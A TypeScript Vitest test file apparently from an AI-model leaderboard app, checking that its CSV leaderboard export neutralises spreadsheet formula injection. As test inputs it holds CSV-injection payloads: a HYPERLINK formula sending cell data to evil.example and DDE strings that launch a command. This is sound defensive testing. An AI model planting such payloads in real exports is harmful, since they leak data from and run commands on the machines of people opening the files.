import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { createApiToken } from "@/lib/server/api-tokens/api-tokens";
import { issueBattle } from "@/lib/server/battles/issue-battle";
import { spreadsheetSafeText, toCsv } from "@/lib/server/exports/csv";
import { recordVote } from "@/lib/server/votes/record-vote";
import { importMiniSet, makeUser, resetData } from "../helpers/fixtures";

type RouteModule = Record<string, (request: Request, context: { params: Promise<Record<string, unknown>> }) => Promise<Response>>;

// Text a spreadsheet would run as a formula (OWASP's CSV-injection list: = + - @ tab CR).
const formulas = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
const dangerousStart = /^[=+\-@\t\r]/;

describe("CSV exports never carry a formula", () => {
  it("spreadsheetSafeText prefixes a single quote to formula-like text only", () => {
    for (const f of formulas) expect(spreadsheetSafeText(f)).toBe(`'${f}`);
    for (const plain of ["alpha", "model-7b", "1200", "", "a=b", " =x"]) expect(spreadsheetSafeText(plain)).toBe(plain);
  });

  it("toCsv quotes text, neutralises formulas in every cell (header included), and keeps numbers numeric", () => {
    const csv = toCsv(["=name", "rating"], [["=1+1", -3.5], ["ok", 12]]);
    const rows = parse(csv) as string[][];
    expect(rows).toEqual([["'=name", "rating"], ["'=1+1", "-3.5"], ["ok", "12"]]);
    expect(csv).toContain('"\'=1+1",-3.5');
  });

  describe("GET /api/v1/leaderboard?format=csv", () => {
    let token = "";
    beforeAll(async () => {
      await resetData();
      await importMiniSet();
      // The mini set's models, renamed and re-keyed as an attacker with an admin's model page (or an
      // import file: keys may begin with + - @) would.
      const models = await db.aiModel.findMany({ orderBy: { key: "asc" } });
      const hostile = [
        { key: "@evil", displayName: formulas[0]! },
        { key: "+evil", displayName: formulas[3]! },
        { key: "-evil", displayName: formulas[4]! },
      ];
      for (const [i, model] of models.entries()) await db.aiModel.update({ where: { id: model.id }, data: hostile[i % hostile.length]! });
      for (let i = 0; i < 4; i++) {
        const annotator = await makeUser("annotator");
        for (let j = 0; j < 3; j++) {
          const battle = await issueBattle(annotator);
          if (battle) await recordVote(annotator.id, { battleId: battle.id, winner: j % 2 ? "model_a" : "model_b" });
        }
      }
      token = (await createApiToken((await makeUser("admin")).id, "csv")).token;
    });

    it("neutralises model keys and display names that begin a formula", async () => {
      const { GET } = (await import("@/app/api/v1/leaderboard/route")) as unknown as RouteModule;
      const response = await GET!(new Request("http://127.0.0.1/api/v1/leaderboard?format=csv", { headers: { authorization: `Bearer ${token}` } }), { params: Promise.resolve({}) });
      expect(response.status).toBe(200);
      const rows = parse(await response.text(), { columns: true }) as Record<string, string>[];
      expect(rows.length).toBe(3);
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          // A cell that begins a formula is allowed only when it is a plain number (a negative rating).
          if (dangerousStart.test(cell)) expect(Number.isFinite(Number(cell)), `${column}: ${JSON.stringify(cell)}`).toBe(true);
        }
        expect(["'@evil", "'+evil", "'-evil"]).toContain(row.model);
        expect(row.displayName!.startsWith("'")).toBe(true);
        expect(formulas).toContain(row.displayName!.slice(1));
      }
    });
  });
});
